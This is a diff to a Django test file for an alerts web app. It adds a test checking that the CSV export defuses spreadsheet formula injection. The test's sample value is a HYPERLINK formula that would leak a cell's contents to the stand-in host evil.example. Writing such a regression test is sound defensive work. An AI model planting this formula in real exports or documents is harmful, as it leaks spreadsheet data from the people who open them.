@@ -1,6 +1,9 @@
 """The alerts browser and the notification rule pages: login and roles, filters, keyset pages, live
 updates, acknowledging, CSV, detail, rule forms with their errors, secrets never shown, send test."""
 
+import csv
+import io
+
 import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
@@ -169,6 +172,17 @@ def test_the_csv_export_streams_the_filtered_list(viewer_pages, cluster):
     lines = text.strip().splitlines()
     assert lines[0].startswith("id,created_at,type,severity,cluster")
     assert len(lines) == 2 and '"quoted ""message"", with comma"' in lines[1] and "signs-1" in lines[1]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(viewer_pages, cluster, start):
+    formula = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"check disk")'
+    EventFactory(cluster=cluster, message=formula)
+
+    response = viewer_pages.get("/alerts/export.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+    assert rows[1][6] == "'" + formula  # read as text, shown without the apostrophe
 
 
 def test_the_detail_page_shows_the_evidence_and_links_the_cluster(viewer_pages, cluster):
